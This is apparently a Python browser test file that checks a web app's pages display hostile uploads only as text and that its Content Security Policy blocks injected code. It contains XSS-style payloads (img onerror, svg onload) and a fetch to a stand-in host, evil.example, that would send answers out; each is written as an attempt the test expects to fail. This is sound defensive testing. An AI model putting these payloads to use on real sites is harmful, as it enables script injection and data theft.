"""What came from others is only text in every page of the desk, in a real browser: nothing of it runs, loads or leads anywhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.browser import Browser
from tests.desk.states import hostile, hostile_files
from tests.desk.test_everyone import PAGES, origin_of
from tests.desk.test_serving import running

# In a turn of the page's own: what a test evaluates itself may do what the page may not.
LATER = """attempt => new Promise((done) => setTimeout(() => {
    try { window.eval(attempt); done('done'); } catch (error) { done(error.name); }
}))"""


@pytest.mark.slow
@pytest.mark.parametrize("language", ["ja", "en"])
def test_a_hostile_return_is_only_text_on_every_page(browser: Browser, tmp_path: Path, language: str) -> None:
    hostile(tmp_path)
    with running(tmp_path, "ja" if language == "ja" else "en") as (_, address):
        origin, key = origin_of(address)
        with browser.visit_address(origin, key) as page:
            page.tab.on("dialog", lambda dialog: page.complaints.append(dialog.message))

            def see_that_nothing_runs(path: str) -> None:
                page.run("() => document.querySelectorAll('details').forEach((each) => { each.open = true; })")
                assert page.run("() => window.hasRun") is None, path
                assert page.run("() => document.scripts.length") == 1, path
                assert (
                    page.run(
                        "() => document.querySelectorAll('img, svg, iframe, object, embed, [onerror], [onload]').length"
                    )
                    == 0
                )
                links = page.run("() => [...document.links].map((each) => each.href)")
                assert [each for each in links if not each.startswith(f"{origin}/")] == [], path

            files = [{"name": name, "mimeType": "", "buffer": content} for name, content in hostile_files().items()]
            page.tab.set_input_files("#files", files)
            page.press("#drop button")
            assert "window.hasRun" in page.tab.inner_text("main"), "what was typed is shown, as text"
            see_that_nothing_runs("/returns")
            for kind in ("invite", "correct"):
                page.tab.goto(f"{origin}/letters?kind={kind}")
                page.press("form[action='/letters/write'] button")
                page.tab.wait_for_selector("main .steps")
                see_that_nothing_runs("/progress")
            for path in PAGES:
                page.tab.goto(origin + path)
                see_that_nothing_runs(path)
            shown = page.run("() => document.body.innerText")
            assert "1337" not in shown
            page.tab.goto(f"{origin}/prefectures/13")
            assert "window.hasRun" in page.tab.inner_text("main")
            with page.tab.expect_download() as download:
                page.tab.click("main .answer a[href^='/files/']")
            assert download.value.suggested_filename.endswith(".eml")
            page.tab.goto(f"{origin}/status.json")
            assert page.run("() => [window.hasRun, document.scripts.length, document.images.length]") == [None, 0, 0]


@pytest.mark.slow
def test_the_policy_runs_nothing_that_found_its_way_into_a_page(browser: Browser, tmp_path: Path) -> None:
    """Were a text not escaped some day, it still could not run, load or send anything."""
    hostile(tmp_path)
    with running(tmp_path) as (_, address):
        origin, key = origin_of(address)
        with browser.visit_address(origin, key) as page:
            for attempt in (
                "window.hasRun = true",
                "document.body.innerHTML = '<img src=x onerror=hasRun=true>'",
            ):
                refused = page.run(LATER, attempt)
                assert refused in ("EvalError", "TypeError"), attempt
            markup = """markup => {
                try { document.body.insertAdjacentHTML('beforeend', markup); return 'done'; } catch (error) { return error.name; }
            }"""
            assert page.run(markup, "<svg onload=hasRun=true>") == "TypeError"
            loading = """address => {
                try { document.createElement('script').src = address; return 'done'; } catch (error) { return error.name; }
            }"""
            assert page.run(loading, "/files/submissions/2026/x.js") == "TypeError"
            page.run("""() => {
                const style = document.createElement('style');
                style.textContent = 'body { display: none }';
                document.body.append(style);
                const frame = document.createElement('iframe');
                frame.src = 'http://evil.example/';
                document.body.append(frame);
            }""")
            sent = page.run("() => fetch('http://evil.example/?answers').then(() => 'sent', (error) => error.name)")
            assert sent == "TypeError"
            page.settled()
            assert page.run("() => window.hasRun") is None
            assert page.run("() => getComputedStyle(document.body).display") == "block"
            assert [each for each in page.requests if not each.startswith((origin, "data:"))] == []
            assert len(page.complaints) >= 5
            assert all(
                "Content Security Policy" in each or "TrustedHTML" in each or "TrustedScript" in each
                for each in page.complaints
            )
            page.complaints.clear()
